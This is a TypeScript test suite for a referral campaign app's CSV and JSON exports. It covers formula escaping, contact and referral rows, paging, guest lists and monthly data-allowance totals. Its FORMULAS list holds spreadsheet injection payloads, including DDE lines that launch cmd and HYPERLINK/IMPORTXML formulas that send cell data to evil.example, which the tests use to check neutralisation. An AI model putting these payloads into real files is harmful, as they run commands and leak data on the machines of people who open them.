import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvLine, harmless } from '../../exports/csv.ts';
import { ANNA, BEN, friendForm, referrerForm } from '../envelopes.ts';
import { testReceiver, type TestReceiver } from '../fixture.ts';

/** A CSV file as a program reads it that knows the standard and nothing of ours. */
function cells(text: string): string[][] {
  return text
    .replace(/^\uFEFF/, '')
    .split(/\r\n(?=")|\r\n$/)
    .filter(Boolean)
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((match) => match[1]!.replaceAll('""', '"')));
}

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '|', '%', "'"];
/** What people have put into cells, and where it hides. */
const FORMULAS = [
  ...STARTS.map((start) => `${start}1+1`),
  ...STARTS.slice(0, 8).map((start) => ` ${start}cmd|' /C calc'!A0`),
  ...STARTS.slice(0, 8).map((start) => `\u200B\u00A0${start}HYPERLINK("http://evil.example?x="&A1,"Click")`),
  ...STARTS.slice(0, 8).map((start) => `\n${start}IMPORTXML("http://evil.example")`),
  '=1+1";"=2+2',
  "''=1+1",
  '"=1+1',
  '";=1+1',
  '+4740612345',
  '-12',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\uFEFF=1+1',
  '\u0000=1+1',
  '=1+1\r\n=2+2',
];

async function file({ owner }: TestReceiver, path: string): Promise<string> {
  const response = await owner(path);
  assert.equal(response.status, 200, path);
  assert.match(response.headers.get('content-disposition')!, /^attachment; filename="[a-z0-9-]+\.(csv|json)"$/);
  return response.text();
}

describe('An export', () => {
  it('starts no formula in any of 48 cells, and every value comes back', () => {
    assert.equal(FORMULAS.length, 48);
    for (const text of FORMULAS) {
      const [[cell]] = cells(csvLine([text])) as [[string]];
      assert.ok(!/^[\p{White_Space}\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u.test(cell), JSON.stringify(cell));
      assert.equal(cell.startsWith("'") ? cell.slice(1) : cell, text);
    }
    for (const text of ['Anna', '7 = seven', 'a-b', '12', 'Zoë "the" first', '']) assert.equal(harmless(text), text);
  });

  it('holds contacts, referrals, rewards and events, each line once, as CSV and JSON', async () => {
    const receiver = await testReceiver();
    const { json: anna } = await receiver.post(referrerForm({ ...ANNA, lastName: '=cmd()' }));
    await receiver.post(friendForm(BEN, anna.referral.code));
    const contacts = cells(await file(receiver, '/owner/exports/contacts.csv'));
    assert.deepEqual(
      contacts.map((row) => [row[1], row[3]]),
      [
        ['email', 'last_name'],
        ['anna@example.com', "'=cmd()"],
        ['ben@example.com', 'Berg'],
      ],
    );
    const json = JSON.parse(await file(receiver, '/owner/exports/contacts.json'));
    assert.deepEqual([json.length, json[0].last_name], [2, '=cmd()']);
    const [referral] = JSON.parse(await file(receiver, '/owner/exports/referrals.json'));
    assert.deepEqual(
      [referral.referrer, referral.friend, referral.status],
      ['anna@example.com', 'ben@example.com', 'rewarded'],
    );
    assert.equal(JSON.parse(await file(receiver, '/owner/exports/rewards.json')).length, 4);
    const events = await receiver.rows('select id from events');
    assert.equal(cells(await file(receiver, '/owner/exports/events.csv')).length, events.length + 1);
    assert.equal((await receiver.owner('/owner/exports/people.csv')).status, 404);
  });

  it('of contacts says where somebody lives, their year of birth and interests, as far as they are known', async () => {
    const receiver = await testReceiver();
    await receiver.post(referrerForm(ANNA));
    await receiver.post(referrerForm({ ...ANNA, email: 'vera@example.com' }));
    await receiver.rows(
      `update people set latitude = 59.91, longitude = 10.75, birth_year = 1990, interests = '["coats","=jeans"]' where email = 'anna@example.com'`,
    );
    const [head, anna, vera] = cells(await file(receiver, '/owner/exports/contacts.csv'));
    assert.deepEqual(head!.slice(-4), ['latitude', 'longitude', 'birth_year', 'interests']);
    assert.deepEqual(anna!.slice(-4), ['59.91', '10.75', '1990', 'coats, =jeans']);
    assert.deepEqual(vera!.slice(-4), ['', '', '', '']);
  });

  it('of nothing is a file all the same', async () => {
    const receiver = await testReceiver();
    assert.equal(cells(await file(receiver, '/owner/exports/contacts.csv')).length, 1);
    assert.deepEqual(JSON.parse(await file(receiver, '/owner/exports/events.json')), []);
  });

  it('goes on where a piece ends, to the last of them', async () => {
    const receiver = await testReceiver();
    await receiver.rows(
      `insert into people (email_key, email, created_at) select n || '@example.com', n || '@example.com', now() from generate_series(1, 4001) as n`,
    );
    const ids = JSON.parse(await file(receiver, '/owner/exports/contacts.json')).map(({ id }: { id: number }) => id);
    assert.deepEqual(
      ids,
      Array.from({ length: 4001 }, (_, n) => n + 1),
    );
  });

  it('of guests has all of them, those with a seat first, with who invited them', async () => {
    const receiver = await testReceiver();
    const { json: anna } = await receiver.post(referrerForm(ANNA));
    await receiver.post(friendForm(BEN, anna.referral.code));
    await receiver.post(referrerForm({ firstName: 'Cleo', email: 'cleo@example.com' }));
    const list = cells(await file(receiver, '/owner/guests.csv')).map((row) => [row[0], row[3], row[4]]);
    assert.deepEqual(list.slice(1).sort(), [
      ['Anna', 'confirmed', ''],
      ['Ben', 'confirmed', 'anna@example.com'],
      ['Cleo', 'waiting', ''],
    ]);
    assert.equal(list.at(-1)![0], 'Cleo');
  });

  it('of allowances has one line for each side that is active in the month, which add up', async () => {
    const receiver = await testReceiver();
    for (const statement of [
      `insert into campaigns (id) values ('vip-prelaunch') on conflict do nothing`,
      `insert into people (email_key, email, customer_number, created_at) select n || '@example.com', n || '@example.com', case when n < 6 then '=K' || n end, now() from generate_series(1, 6) as n`,
      `insert into results (id, body_hash, type, flow, occurred_at, received_at) select gen_random_uuid(), n::text, 'form.submitted', 'f', now(), now() from generate_series(2, 6) as n`,
      `insert into referrals (campaign, referrer, friend, result, status, counts, at) select 'vip-prelaunch', 1, body_hash::integer, id, 'rewarded', true, now() from results order by body_hash`,
      `insert into rewards (campaign, referral, person, side, kind, reward, once, status, amount, unit, at)
         select 'vip-prelaunch', id, case side when 'friend' then friend else referrer end, side, 'data_allowance', 'gb', false, 'issued', 2, 'GB', now()
         from referrals, (values ('friend'), ('referrer')) as sides (side)`,
      `insert into reward_months (reward, month, amount, unit, issued_at) select id, month::date, 2, 'GB', now() from rewards, (values ('2026-10-01'), ('2026-11-01')) as months (month)`,
      `delete from reward_months where month = '2026-11-01' and reward = 1`,
    ])
      await receiver.rows(statement);
    const sum = async (month: string) =>
      cells(await file(receiver, `/owner/exports/allowance.csv?month=${month}`))
        .slice(1)
        .reduce((all, row) => all + Number(row[2]), 0);
    assert.deepEqual([await sum('2026-10'), await sum('2026-11'), await sum('2026-12')], [20, 18, 0]);
    const [head, first] = cells(await file(receiver, '/owner/exports/allowance.csv?month=2026-10'));
    assert.deepEqual(head, ['month', 'customer', 'amount', 'unit', 'reason']);
    assert.deepEqual(first, ['2026-10', "'=K2", '2', 'GB', 'joined through the link of =K1']);
    assert.match(await file(receiver, '/owner/exports/allowance.csv?month=2026-13'), /month/);
  });
});
